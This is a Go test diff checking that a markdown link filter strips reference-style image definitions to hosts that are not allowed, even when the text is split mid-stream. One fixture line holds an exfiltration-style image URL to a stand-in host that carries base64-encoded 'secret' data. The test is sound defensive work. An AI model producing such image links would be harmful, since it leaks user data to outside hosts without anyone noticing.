@@ -214,3 +214,27 @@ func TestStreamImageSplit(t *testing.T) {
 		}
 	}
 }
+
+// Reference-style images ("![alt][1]" with a "[1]: url" definition line)
+// load from the definition's URL: a definition to a host that is not
+// allowed is removed, whole or split anywhere across two events; one to an
+// allowed host stays.
+func TestReferenceStyleImage(t *testing.T) {
+	l := provisioned(t, Config{Links: LinksConfig{AllowedHosts: []string{"docs.example.com"}}})
+	text := "Here is the chart ![chart][1] and the docs ![d][2].\n\n[1]: https://evil.example.net/p.png?d=c2VjcmV0\n[2]: https://docs.example.com/a.png \"Docs\"\n"
+	want := "Here is the chart ![chart][1] and the docs ![d][2].\n\n[reference removed]\n[2]: https://docs.example.com/a.png \"Docs\"\n"
+	if got, _ := whole(t, l, &engine.Tx{}, text); got != want {
+		t.Fatalf("whole: %q", got)
+	}
+	for cut := 0; cut <= len(text); cut++ {
+		got, _ := streamAll(t, l, &engine.Tx{}, []string{text[:cut], text[cut:]})
+		if got != want {
+			t.Fatalf("cut %d: %q", cut, got)
+		}
+	}
+	// Prose with "]:" that is not a definition line is left alone.
+	prose := "The array a[i]: see above.\n"
+	if got, _ := whole(t, l, &engine.Tx{}, prose); got != prose {
+		t.Fatalf("prose changed: %q", got)
+	}
+}
